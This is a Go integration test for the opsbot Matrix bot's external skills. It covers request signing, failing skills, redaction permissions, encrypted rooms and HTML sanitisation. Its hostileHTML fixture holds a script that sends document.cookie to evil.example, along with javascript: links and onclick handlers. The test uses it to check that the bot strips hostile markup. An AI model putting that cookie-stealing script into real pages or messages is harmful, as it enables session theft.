package integration

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/opsbot/opsbot/appservice/config"
	"github.com/opsbot/opsbot/integration/harness"
	"github.com/opsbot/opsbot/integration/peers"
	"github.com/opsbot/opsbot/skills/external"
	"github.com/opsbot/opsbot/skills/skilltest"
)

const weatherJSBot = "@weatherjs:localhost"

// Skills in any language: the Python and JavaScript examples of
// docs/examples run as real processes, and opsbot talks to them over
// signed HTTP, against Dendrite. Also: a skill that is down, a skill that
// answers nonsense, and an encrypted room (the skill sees the decrypted
// message; the bot answers encrypted).
func TestExternalSkills(t *testing.T) {
	python := peers.NioPython // the system Python: the example needs nothing but its standard library
	if _, err := os.Stat(python); err != nil {
		t.Fatalf("the Python example needs %s: %v", python, err)
	}
	node, err := exec.LookPath("node")
	if err != nil {
		t.Fatalf("the JavaScript example needs node (Node.js 20 or later) on $PATH: %v", err)
	}
	pySecret, jsSecret, nonsenseSecret := config.RandomToken(), config.RandomToken(), config.RandomToken()
	pyURL := startExample(t, python, "weather_skill.py", pySecret, true)
	jsURL := startExample(t, node, "weather_skill.mjs", jsSecret, false)
	// The examples refuse requests without the right signature, so every
	// answer below proves opsbot signed its request correctly.
	for _, url := range []string{pyURL, jsURL} {
		body := fmt.Sprintf(`{"version":1,"timestamp":%d,"match":{"kind":"regex"}}`, time.Now().Unix())
		if code := postSigned(t, url, body, "sha256="+strings.Repeat("0", 64)); code != http.StatusUnauthorized {
			t.Fatalf("%s answered a bad signature with %d, want 401", url, code)
		}
		if code := postSigned(t, url, body, sign(pySecret+"x", body)); code != http.StatusUnauthorized {
			t.Fatalf("%s answered a signature made with another secret with %d, want 401", url, code)
		}
	}
	nonsense := newNonsenseSkill(t, nonsenseSecret)
	downPort := freePort(t) // nothing listens there

	// The JavaScript skill's secret comes from the environment, as in Kubernetes.
	t.Setenv(external.SecretEnv("weather-js"), jsSecret)
	extra := fmt.Sprintf(`external_skills:
  - name: weather-py
    url: %s
    secret: %s
    commands:
      - pattern: "weather {city...?}"
        help: the weather for a city
    regexes: ['(?i)\bthanks\b']
    retries: 2
  - name: weather-js
    url: %s
    commands:
      - pattern: "weather {city...?}"
        help: the weather for a city
    regexes: ['(?i)\bthanks\b']
    timeout: 3s
  - name: weather-down
    url: http://127.0.0.1:%d/
    secret: %s
    commands: [{pattern: down}]
    retries: 1
  - name: nonsense
    url: %s
    secret: %s
    commands: [{pattern: "nonsense {text...?}"}]
`, pyURL, pySecret, jsURL, downPort, config.RandomToken(), nonsense.srv.URL, nonsenseSecret)
	bots := `
  - localpart: opsbot
    displayname: Ops Bot
    skills: [ping, help, echo, weather-py, weather-down, nonsense]
  - localpart: weatherjs
    displayname: JS Weather
    command_prefix: "?"
    skills: [help, weather-js]
`
	w := newWorldWith(t, worldOptions{DB: "sqlite", Bots: bots, Extra: extra})
	alice := w.HS.RegisterUser(t, "alice")
	room := joinedRoom(t, alice, botID, weatherJSBot)

	// A command, answered by each implementation, as a reply.
	cmd := alice.SendText(t, room, "!weather Berlin")
	ev := alice.WaitForMessage(t, room, wait, harness.From(botID))
	if ev.Body() != "Weather for Berlin: sunny" || ev.MsgType() != "m.notice" {
		t.Fatalf("Python skill answered %s", ev)
	}
	if inReply, _ := relOf(ev)["m.in_reply_to"].(map[string]any); inReply["event_id"] != cmd {
		t.Errorf("the answer does not reply to the command: %v", ev.Content)
	}
	if ev := ask(t, alice, room, "?weather Berlin", weatherJSBot); ev.Body() != "Weather for Berlin: sunny" {
		t.Fatalf("JavaScript skill answered %s", ev)
	}
	// Memory: each skill remembered the city (set_memory), and gets it back
	// in the next request.
	if ev := ask(t, alice, room, "!weather", botID); ev.Body() != "Weather for Berlin: sunny" {
		t.Fatalf("Python skill without a city answered %s", ev)
	}
	if ev := ask(t, alice, room, "?weather", weatherJSBot); ev.Body() != "Weather for Berlin: sunny" {
		t.Fatalf("JavaScript skill without a city answered %s", ev)
	}
	if help := ask(t, alice, room, "?help", weatherJSBot); !strings.Contains(help.Body(), "?weather [city...]") || !strings.Contains(help.Body(), "the weather for a city") {
		t.Errorf("?help lacks the external command: %q", help.Body())
	}

	// A regex: both bots react to thanks.
	thanks := alice.SendText(t, room, "thanks, both of you")
	reactors := map[string]bool{}
	for range 2 {
		r := alice.WaitForEvent(t, room, wait, harness.All(harness.OfType("m.reaction"), func(e harness.Event) bool {
			return relOf(e)["event_id"] == thanks
		}))
		if relOf(r)["key"] != "👍" || relOf(r)["rel_type"] != "m.annotation" {
			t.Errorf("reaction %v", r.Content)
		}
		reactors[r.Sender] = true
	}
	if !reactors[botID] || !reactors[weatherJSBot] {
		t.Errorf("reactions from %v, want both bots", reactors)
	}

	// A skill nobody listens for: the person gets the engine's apology, the
	// log names the skill and the problem.
	if ev := ask(t, alice, room, "!down", botID); ev.Body() != "Sorry, the weather-down skill failed while handling that. The error has been logged." {
		t.Fatalf("unreachable skill answered %s", ev)
	}
	w.Bot.WaitForLog(t, wait, `"skill":"weather-down"`, "Skill handler failed",
		fmt.Sprintf("external skill weather-down: no answer from http://127.0.0.1:%d/ after 2 attempts", downPort), "connection refused")

	// A skill that answers nonsense: the same apology, and the log says what
	// was wrong with the answer.
	if ev := ask(t, alice, room, "!nonsense please", botID); ev.Body() != "Sorry, the nonsense skill failed while handling that. The error has been logged." {
		t.Fatalf("nonsense skill answered %s", ev)
	}
	w.Bot.WaitForLog(t, wait, `"skill":"nonsense"`, "Skill handler failed",
		`external skill nonsense answered nonsense: actions[0]: unknown type \"replay\"`)
	req := nonsense.last(t)
	if req.Version != 1 || req.Skill != "nonsense" || req.Bot != botID || req.RoomID != room ||
		req.Event.Sender != alice.ID || req.Event.Type != "m.room.message" || req.Event.Body != "!nonsense please" || req.Event.Encrypted ||
		req.Match.Kind != "command" || req.Match.Command != "nonsense" || req.Match.Args["text"] != "please" {
		t.Errorf("request: %+v", req)
	}
	if extra := sentinel(t, alice, room, botID); len(extra) != 0 {
		t.Errorf("the bot said more than expected: %v", extra)
	}

	// Hostile HTML from a skill reaches the room as the spec's subset, and
	// its "@room" pings nobody: the message says whom it mentions (no one).
	if ev := ask(t, alice, room, "!nonsense html", botID); ev.Content["formatted_body"] != safeHTML {
		t.Fatalf("hostile HTML sent as %q, want %q", ev.Content["formatted_body"], safeHTML)
	} else if m, ok := ev.Content["m.mentions"].(map[string]any); !ok || len(m) != 0 {
		t.Fatalf("m.mentions = %v, want {}", ev.Content["m.mentions"])
	}

	// A skill asks the bot (a moderator here) to redact alice's message: it
	// may redact only the bot's own events (permissions.skills.<skill>.
	// redact_others is off), so it does not, and says why in the log.
	var power map[string]any
	alice.State(t, room, "m.room.power_levels", "", &power)
	users, _ := power["users"].(map[string]any)
	users[botID] = 50
	alice.SendState(t, room, "m.room.power_levels", "", power)
	victim := alice.SendText(t, room, "an ordinary message")
	if ev := ask(t, alice, room, "!nonsense redact "+victim, botID); !strings.HasPrefix(ev.Body(), "Sorry, the nonsense skill failed") {
		t.Fatalf("redact request answered %s", ev)
	}
	w.Bot.WaitForLog(t, wait, `"skill":"nonsense"`, "may redact only the bot's own events (permissions.skills.nonsense.redact_others)")
	var still struct {
		Content map[string]any `json:"content"`
	}
	alice.Get(t, "/_matrix/client/v3/rooms/"+url.PathEscape(room)+"/event/"+url.PathEscape(victim), &still)
	if still.Content["body"] != "an ordinary message" {
		t.Fatalf("alice's message was redacted: %v", still.Content)
	}

	// An encrypted room: the skill gets the decrypted message, and the bot
	// answers encrypted.
	bob := w.HS.RegisterUser(t, "bob")
	nio := peers.StartNio(t)
	nio.Login(w.HS.URL, bob.ID, bob.Password, "BOBNIO")
	secretRoom := nio.CreateRoom(true, botID)
	botJoined(t, bob, secretRoom, botID)
	nio.Send(secretRoom, "!weather Oslo")
	if m := nio.WaitMessage(secretRoom, botID, wait); m.Body != "Weather for Oslo: sunny" || !m.Encrypted {
		t.Fatalf("encrypted room: got %+v", m)
	}
	nio.Send(secretRoom, "!nonsense in secret")
	if m := nio.WaitMessage(secretRoom, botID, wait); !strings.HasPrefix(m.Body, "Sorry, the nonsense skill failed") || !m.Encrypted {
		t.Fatalf("encrypted room, nonsense: got %+v", m)
	}
	req = nonsense.last(t)
	// The skill edits its own earlier message in the encrypted room (the
	// bot checks who sent it without needing to decrypt it).
	nio.Send(secretRoom, "!nonsense draft")
	if m := nio.WaitMessage(secretRoom, botID, wait); m.Body != "draft" || !m.Encrypted {
		t.Fatalf("encrypted room, draft: got %+v", m)
	}
	nio.Send(secretRoom, "!nonsense finish")
	if m := nio.WaitMessage(secretRoom, botID, wait); m.Body != "* final" || !m.Encrypted {
		t.Fatalf("encrypted room, edit of its own message: got %+v\n%s", m, w.Bot.LogTail(10))
	}
	nio.Send(secretRoom, "!nonsense html")
	if m := nio.WaitMessage(secretRoom, botID, wait); m.FormattedBody != safeHTML || !m.Encrypted || m.Mentions == nil || m.Mentions.Room || len(m.Mentions.UserIDs) != 0 {
		t.Fatalf("encrypted room, hostile HTML: got %+v (mentions %+v)", m, m.Mentions)
	}
	var content struct {
		Body    string `json:"body"`
		MsgType string `json:"msgtype"`
	}
	_ = json.Unmarshal(req.Event.Content, &content)
	if !req.Event.Encrypted || req.Event.Type != "m.room.message" || content.Body != "!nonsense in secret" || content.MsgType != "m.text" || req.RoomID != secretRoom {
		t.Errorf("encrypted request: %+v (content %s)", req.Event, req.Event.Content)
	}
}

// startExample runs one of docs/examples' skills on a free port and
// waits until it listens. The secret goes in --secret, or in the
// environment (WEATHER_SKILL_SECRET).
func startExample(t *testing.T, interpreter, script, secret string, secretFlag bool) string {
	t.Helper()
	root, err := harness.RepoRoot()
	if err != nil {
		t.Fatal(err)
	}
	port := freePort(t)
	args := []string{filepath.Join(root, "docs", "examples", script), "--port", strconv.Itoa(port)}
	cmd := exec.Command(interpreter, args...)
	cmd.Env = os.Environ()
	if secretFlag {
		cmd.Args = append(cmd.Args, "--secret", secret)
	} else {
		cmd.Env = append(cmd.Env, "WEATHER_SKILL_SECRET="+secret)
	}
	out := &harness.LockedBuffer{}
	cmd.Stdout, cmd.Stderr = out, out
	if err := cmd.Start(); err != nil {
		t.Fatalf("starting %s: %v", script, err)
	}
	done := make(chan struct{})
	go func() { _ = cmd.Wait(); close(done) }()
	output := out.String
	t.Cleanup(func() {
		_ = cmd.Process.Signal(syscall.SIGTERM)
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			_ = cmd.Process.Kill()
			<-done
		}
		if t.Failed() {
			t.Logf("%s output:\n%s", script, output())
		}
	})
	addr := fmt.Sprintf("127.0.0.1:%d", port)
	deadline := time.Now().Add(20 * time.Second)
	for {
		select {
		case <-done:
			t.Fatalf("%s exited during start-up:\n%s", script, output())
		default:
		}
		if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
			c.Close()
			return "http://" + addr + "/"
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s does not listen on %s after 20s:\n%s", script, addr, output())
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func sign(secret, body string) string {
	mac := hmac.New(sha256.New, []byte(secret))
	mac.Write([]byte(body))
	return "sha256=" + hex.EncodeToString(mac.Sum(nil))
}

func postSigned(t *testing.T, url, body, signature string) int {
	t.Helper()
	return skilltest.Post(t, url, body, map[string]string{"Content-Type": "application/json", "X-Opsbot-Signature": signature})
}

// externalRequest is the part of the protocol's request the test checks
// (decoded independently of skills/external, as a skill would).
type externalRequest struct {
	Memory    map[string]json.RawMessage `json:"memory"`
	Version   int                        `json:"version"`
	Skill     string                     `json:"skill"`
	Bot       string                     `json:"bot"`
	RoomID    string                     `json:"room_id"`
	Timestamp int64                      `json:"timestamp"`
	Event     struct {
		EventID   string          `json:"event_id"`
		Type      string          `json:"type"`
		Sender    string          `json:"sender"`
		Body      string          `json:"body"`
		Content   json.RawMessage `json:"content"`
		Encrypted bool            `json:"encrypted"`
	} `json:"event"`
	Match struct {
		Kind    string            `json:"kind"`
		Command string            `json:"command"`
		Args    map[string]string `json:"args"`
	} `json:"match"`
}

// hostileHTML is HTML no room should get as written; safeHTML is what
// the spec's subset leaves of it.
const (
	hostileHTML = `<b>@room</b> <script>fetch("https://evil.example/"+document.cookie)</script>` +
		`<a href="javascript:alert(1)" onclick="alert(2)">details</a><img src="https://evil.example/t.png" alt="pixel">` +
		`<iframe src="https://evil.example/"></iframe><p style="position:fixed">end</p>`
	safeHTML = `<b>@room</b> <a>details</a>pixel<p>end</p>`
)

// nonsenseSkill checks each request's signature and answers with an
// action type that does not exist.
type nonsenseSkill struct {
	srv      *httptest.Server
	mu       sync.Mutex
	requests []externalRequest
}

func newNonsenseSkill(t *testing.T, secret string) *nonsenseSkill {
	n := &nonsenseSkill{}
	n.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		if !hmac.Equal([]byte(r.Header.Get("X-Opsbot-Signature")), []byte(sign(secret, string(body)))) {
			http.Error(w, "bad signature", http.StatusUnauthorized)
			return
		}
		var req externalRequest
		if err := json.Unmarshal(body, &req); err != nil || r.Header.Get("X-Opsbot-Timestamp") != strconv.FormatInt(req.Timestamp, 10) {
			http.Error(w, "bad request", http.StatusBadRequest)
			return
		}
		n.mu.Lock()
		n.requests = append(n.requests, req)
		n.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		switch req.Match.Args["text"] {
		case "draft": // a message of its own, to edit next time
			_, _ = io.WriteString(w, `{"actions":[{"type":"reply","text":"draft","save_id_as":"draft"}]}`)
			return
		case "finish":
			var draft string
			_ = json.Unmarshal(req.Memory["draft"], &draft)
			_, _ = io.WriteString(w, `{"actions":[{"type":"edit","event_id":`+strconv.Quote(draft)+`,"text":"final"}]}`)
			return
		}
		if target, ok := strings.CutPrefix(req.Match.Args["text"], "redact "); ok {
			// A skill that tries to have someone else's message removed.
			_, _ = io.WriteString(w, `{"actions":[{"type":"redact","event_id":`+strconv.Quote(target)+`}]}`)
			return
		}
		if req.Match.Args["text"] == "html" {
			// What a compromised or careless skill might answer.
			_, _ = io.WriteString(w, `{"actions":[{"type":"reply","text":"@room hostile","html":`+strconv.Quote(hostileHTML)+`}]}`)
			return
		}
		_, _ = io.WriteString(w, `{"actions":[{"type":"replay"}]}`)
	}))
	t.Cleanup(n.srv.Close)
	return n
}

func (n *nonsenseSkill) last(t *testing.T) externalRequest {
	t.Helper()
	n.mu.Lock()
	defer n.mu.Unlock()
	if len(n.requests) == 0 {
		t.Fatal("the nonsense skill got no (correctly signed) request")
	}
	return n.requests[len(n.requests)-1]
}
